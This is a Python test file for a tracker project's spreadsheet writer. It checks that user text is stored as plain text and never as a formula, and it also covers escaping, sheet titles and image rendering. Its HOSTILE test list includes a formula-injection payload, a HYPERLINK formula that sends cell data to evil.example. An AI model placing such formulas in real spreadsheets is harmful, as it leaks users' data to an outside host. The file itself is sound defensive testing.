"""Safe cell writing: user text never becomes a formula, whatever it starts with."""

from __future__ import annotations

import datetime as dt
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from tracker.io.ooxml_text import MAX_CELL_TEXT, unescape
from tracker.reports.cells import Column, put, put_status, write_table
from tracker.reports.status_workbook import sheet_title

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "=1",
    "==",
    "=",
]


def _round_trip(tmp_path, values):
    book = Workbook()
    sheet = book.active
    for row, value in enumerate(values, start=1):
        put(sheet, row, 1, value)
    path = tmp_path / "t.xlsx"
    book.save(path)
    return path, load_workbook(path).active


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(tmp_path, text):
    path, sheet = _round_trip(tmp_path, [text])
    cell = sheet["A1"]
    assert cell.data_type == "s"
    # A carriage return is written as Excel writes it (_x000D_): XML parsers would make it a
    # line feed. Unescaped, the text is exactly what was written.
    assert unescape(cell.value) == text
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_formula_like_text_gets_a_quote_prefix_and_plain_text_does_not(tmp_path):
    _path, sheet = _round_trip(tmp_path, ["=1+1", "+1", "Claims", "a=b"])
    assert sheet["A1"].quotePrefix and sheet["A2"].quotePrefix
    assert not sheet["A3"].quotePrefix and not sheet["A4"].quotePrefix


def test_characters_xml_cannot_hold_are_escaped_and_long_text_cut(tmp_path):
    text = "bell\x07 and nul\x00, \ufffe\uffff, and _x0041_ as typed"
    _path, sheet = _round_trip(tmp_path, [text, "x" * (MAX_CELL_TEXT + 10)])
    assert sheet["A1"].value == "bell_x0007_ and nul_x0000_, _xFFFE__xFFFF_, and _x005F_x0041_ as typed"
    assert unescape(sheet["A1"].value) == text
    assert len(sheet["A2"].value) == MAX_CELL_TEXT


def test_numbers_percentages_and_dates_keep_their_types(tmp_path):
    book = Workbook()
    sheet = book.active
    cols = (Column("n", "int"), Column("p", "percent"), Column("d", "date"), Column("h", "status"))
    write_table(sheet, 1, cols, [(3, 0.25, dt.date(2026, 3, 1), ("Red", "red"))])
    path = tmp_path / "t.xlsx"
    book.save(path)
    sheet = load_workbook(path).active
    assert sheet["A2"].value == 3 and sheet["A2"].data_type == "n"
    assert sheet["B2"].value == 0.25 and sheet["B2"].number_format == "0%"
    assert sheet["C2"].value == dt.datetime(2026, 3, 1) and sheet["C2"].is_date
    assert sheet["D2"].value == "Red"
    assert sheet["D2"].fill.start_color.rgb.endswith("F4C7C3")


def test_status_without_a_known_colour_still_shows_its_word(tmp_path):
    book = Workbook()
    cell = put_status(book.active, 1, 1, "Unknown")
    assert cell.value == "Unknown"


@pytest.mark.parametrize("name, expected", [
    ("Claims triage assistant", "Claims triage assistant"),
    ("A/B: test [v2]?", "A B test v2"),
    ("'quoted'", "quoted"),
    ("x" * 40, "x" * 31),
    ("History", "History (2)"),
    ("", "Rollout"),
])
def test_sheet_titles_are_valid(name, expected):
    assert sheet_title(name, set()) == expected


def test_sheet_titles_are_unique_ignoring_case():
    used = {"summary"}
    assert sheet_title("Summary", used) == "Summary (2)"
    assert sheet_title("SUMMARY", used) == "SUMMARY (3)"
    long = "y" * 40
    assert sheet_title(long, used) == "y" * 31
    assert sheet_title(long, used) == "y" * 27 + " (2)"


@pytest.mark.slow  # starts the drawing helper process: 1.4 s
def test_pictures_rendered_in_the_helper_process_match_those_drawn_here(monkeypatch):
    """The helper starts from PARALLEL_FROM pictures on; its pictures are then checked at a
    threshold of 2 (the helper's 3 s of CPU for the real threshold's 8 are 1.5 s for 2)."""
    import datetime as dt

    from tracker.domain.readiness import Stakeholder, SupportLevel
    from tracker.reports import images as module
    from tracker.reports.images import PARALLEL_FROM, Pictures, power_interest_png

    people = [Stakeholder(i, 1, i, None, f"Person {i}", 1 + i % 5, 1 + (i * 2) % 5, SupportLevel.NEUTRAL,
                          SupportLevel.CHAMPION) for i in range(1, 6)]

    def jobs_of(count):
        return {k: (people[:1 + k % 5], dt.date(2026, 1, 1), 3.0, 2.5) for k in range(count)}

    with Pictures(jobs_of(PARALLEL_FROM - 1)) as pictures:
        assert pictures._process is None, "too few pictures to pay for a helper process"
    with Pictures(jobs_of(PARALLEL_FROM)) as pictures:
        assert pictures._process is not None, "enough pictures for a helper process"
    monkeypatch.setattr(module, "PARALLEL_FROM", 2)
    jobs = jobs_of(2)
    with Pictures(jobs) as pictures:
        assert pictures._process is not None
        images = {k: pictures.png(k) for k in jobs}
        assert set(pictures._done) == set(jobs), "every picture came from the helper"
    assert all(png.startswith(b"\x89PNG") for png in images.values())
    assert images[1] == power_interest_png(*jobs[1])


def test_pictures_without_a_helper_are_drawn_here(monkeypatch):
    import datetime as dt
    import subprocess

    from tracker.domain.readiness import Stakeholder, SupportLevel
    from tracker.reports.images import PARALLEL_FROM, Pictures

    def no_processes(*args, **kwargs):
        raise OSError("not allowed here")

    monkeypatch.setattr(subprocess, "Popen", no_processes)
    one = [Stakeholder(1, 1, 1, None, "Ann", 4, 4, SupportLevel.NEUTRAL, SupportLevel.CHAMPION)]
    with Pictures({k: (one, dt.date(2026, 1, 1), 3.0, 2.5) for k in range(PARALLEL_FROM)}) as pictures:
        assert pictures.png(0).startswith(b"\x89PNG")


def test_a_table_writes_each_value_as_put_does(tmp_path):
    """write_rows places its cells itself (not through `sheet.cell`): every kind of value must
    come out as `put` writes it, text never a formula, long text cut, dates and moments dated."""
    import decimal

    values = [*HOSTILE, "bell\x07 and _x0041_", "x" * (MAX_CELL_TEXT + 10), True, False, 7, 2.5,
              dt.date(2026, 3, 1), dt.datetime(2026, 3, 1, 9, 30, tzinfo=dt.UTC), decimal.Decimal("1.5"), None]
    book = Workbook()
    by_put, by_table = book.active, book.create_sheet("table")
    for row, value in enumerate(values, start=2):
        put(by_put, row, 1, value)
    write_table(by_table, 1, (Column("v"),), [(v,) for v in values])
    path = tmp_path / "t.xlsx"
    book.save(path)
    read = load_workbook(path)
    for row in range(2, len(values) + 2):
        a, b = read.worksheets[0].cell(row=row, column=1), read["table"].cell(row=row, column=1)
        assert (a.value, a.data_type, a.quotePrefix, a.is_date) == (b.value, b.data_type, b.quotePrefix, b.is_date), row
    with zipfile.ZipFile(path) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet2.xml").decode()
    assert by_table.max_row == len(values) + 1
    by_table.append(["after"])  # openpyxl's append goes under the table, as after `sheet.cell`
    assert by_table.cell(row=len(values) + 2, column=1).value == "after"


def test_a_table_refuses_merged_cells_and_rows_past_the_sheet(monkeypatch):
    import tracker.reports.cells as cells

    book = Workbook()
    sheet = book.active
    sheet.merge_cells("A3:B3")
    with pytest.raises(ValueError, match="row 3, column 2 is inside merged cells"):
        write_table(sheet, 1, (Column("a"), Column("b")), [(1, 2), (3, 4)])
    monkeypatch.setattr(cells, "MAX_ROWS", 5)
    with pytest.raises(ValueError, match="more than 5 rows"):
        write_table(book.create_sheet("long"), 1, (Column("a"),), [(i,) for i in range(10)])
